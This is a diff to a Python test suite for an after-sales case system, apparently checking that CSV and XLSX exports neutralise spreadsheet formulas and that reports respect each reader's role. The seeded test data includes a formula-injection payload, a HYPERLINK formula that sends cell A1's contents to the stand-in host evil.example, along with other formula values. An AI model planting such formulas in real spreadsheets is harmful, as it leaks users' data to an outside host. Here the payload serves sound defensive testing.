@@ -27,6 +27,7 @@ BJ = timezone(timedelta(hours=8))
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
 FORMULAS = (HYPERLINK, "+SUM(1,2)", "=1+2", "@SUM(A1)", "-2+3")
 MONTH, QUARTER = "2026-11", "2026Q4"
+TAB_FORMULA, CR_FORMULA = "\t=1+2", "\r=1+2"  # a tab or CR before a formula: also run by spreadsheets
 
 
 def row(no: str, case_type: str, **columns) -> Case:
@@ -47,14 +48,14 @@ def seeded() -> list:
         row("TS-2026-000001", "complaint", department="工程部", category=HYPERLINK, project="+SUM(1,2)",
             customer_name="=1+2", compensation_fen=80000, compensation_paid=True, reached_roles=",finance,"),
         # a complaint of 物业部 with a compensation not yet approved: no approval role reached it
-        row("TS-2026-000002", "complaint", department="物业部", category="噪音", compensation_fen=50000,
+        row("TS-2026-000002", "complaint", department="物业部", category=TAB_FORMULA, compensation_fen=50000,
             compensation_paid=False, reached_roles=""),
         # an owner-paid repair the owner paid (finance reached it), surveyed for CT-DEMO
         row("WX-2026-000001", "repair", department="工程部", project="+SUM(1,2)", customer_name="=1+2", unit="@SUM(A1)",
             building="-2+3", paid_service=True, service_fee_fen=12000, service_paid_fen=12000, reached_roles=",finance,",
             contractor_id="CT-DEMO"),
         # an owner-paid repair quoted, not accepted: nobody but the repair side and those who see all
-        row("WX-2026-000002", "repair", paid_service=True, service_fee_fen=9000, reached_roles=""),
+        row("WX-2026-000002", "repair", paid_service=True, service_fee_fen=9000, reached_roles="", customer_name=CR_FORMULA),
         WorkerEvaluation(evaluation_key="e1", worker="zhou", case_no="WX-2026-000001", quarter=QUARTER, source="sign_off",
                          parts=1, quality=5, attitude=5, at=datetime(2026, 11, 12, tzinfo=timezone.utc)),
         WorkerEvaluation(evaluation_key="e2", worker="li", case_no="WX-2026-000002", quarter=QUARTER, source="sign_off",
@@ -99,7 +100,7 @@ def assert_workbook_has_no_formula(content: bytes) -> list:
                 assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
     book = load_workbook(io.BytesIO(content))
     risky = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r
-             if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+             if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
     for c in risky:
         assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
     return [c.value for c in risky]
@@ -108,6 +109,10 @@ def assert_workbook_has_no_formula(content: bytes) -> list:
 # ---- P2: every report, list and export: the reader's own cases ----------------------------------------
 
 USERNAMES = [a[0] for a in DEMO_ACCOUNTS]
+
+
+def role_of(username: str):
+    return next(a[1] for a in DEMO_ACCOUNTS if a[0] == username)
 
 
 @pytest.mark.asyncio
@@ -142,10 +147,14 @@ async def test_P2_money_reports_and_their_csv_show_only_the_cases_the_reader_may
 
 @pytest.mark.asyncio
 async def test_P2_worker_scores_count_only_the_repairs_the_reader_may_see(api):
-    for username in ("cs_manager", "repair_lead", "deputy_chief_engineer", "gm"):
+    readers = {r.value for r in access.ENDPOINTS["read_worker_report"]}
+    for username in USERNAMES:
         h = await api.token(username)
         sees = {c["case_no"] for c in (await api.get("/cases", params={"page_size": 100}, headers=h)).json()["items"]}
         r = await api.get("/reports/workers", params={"quarter": QUARTER}, headers=h)
+        if role_of(username).value not in readers:
+            assert r.status_code == 403, (username, r.status_code)
+            continue
         assert r.status_code == 200, r.text
         expected = {w for w, no in (("zhou", "WX-2026-000001"), ("li", "WX-2026-000002")) if no in sees}
         assert {w["worker"] for w in r.json()["workers"]} == expected, username
@@ -164,8 +173,17 @@ async def test_P2_stored_reports_are_read_only_by_roles_that_see_every_case(api)
     for username in USERNAMES:
         h = await api.token(username)
         total = (await api.get("/cases", params={"page_size": 100}, headers=h)).json()["total"]
-        for path in (f"/reports/{made.json()['id']}", f"/reports/{made.json()['id']}.csv", "/reports"):
-            r = await api.get(path, headers=h)
+        report = made.json()['id']
+        for path in (f"/reports/{report}", f"/reports/{report}.csv", f"/reports/{report}.xlsx", f"/reports/{report}.png",
+                     "/reports", f"/app/reports/{report}.csv", f"/app/reports/{report}.xlsx"):
+            if path.startswith("/app/"):  # the workbench's downloads, for the page's session
+                api.cookies.set("aftersales_session", h["Authorization"].removeprefix("Bearer "))
+                try:
+                    r = await api.get(path)
+                finally:
+                    api.cookies.clear()
+            else:
+                r = await api.get(path, headers=h)
             assert r.status_code in (200, 403, 404), (username, path, r.status_code)
             assert (r.status_code == 404) == (username == "cs_manager2" and path != "/reports"), (username, path)
             if r.status_code == 200 and path == "/reports":  # P5: the list holds the reports of the reader's scope
@@ -183,7 +201,7 @@ async def test_formulas_typed_into_cases_are_neutralised_in_every_csv_and_xlsx(a
     table = csv_table(paid_csv.text)
     assert_no_formula_cell(table)
     cells = {c for r in table for c in r}
-    assert {"'=1+2", "'+SUM(1,2)", "'@SUM(A1)", "'-2+3"} <= cells, cells
+    assert {"'=1+2", "'+SUM(1,2)", "'@SUM(A1)", "'-2+3", f"'{CR_FORMULA}"} <= cells, cells
     for kind in ("monthly_complaints", "paid_services", "quarterly"):
         made = await api.post("/reports", json={"kind": kind, "period": QUARTER if kind == "quarterly" else MONTH},
                               headers=h)
@@ -198,7 +216,8 @@ async def test_formulas_typed_into_cases_are_neutralised_in_every_csv_and_xlsx(a
         # the text itself is kept (as text): the sheet 按类别 shows the category as typed
         assert (HYPERLINK in kept) == (kind != "paid_services") and "+SUM(1,2)" in kept, kept
         if kind == "monthly_complaints":
-            assert f"'{HYPERLINK}" in {c for r in csv_table(as_csv.text) for c in r}
+            assert {f"'{HYPERLINK}", f"'{TAB_FORMULA}"} <= {c for r in csv_table(as_csv.text) for c in r}
+            assert TAB_FORMULA in kept, kept
 
 
 @pytest.mark.asyncio
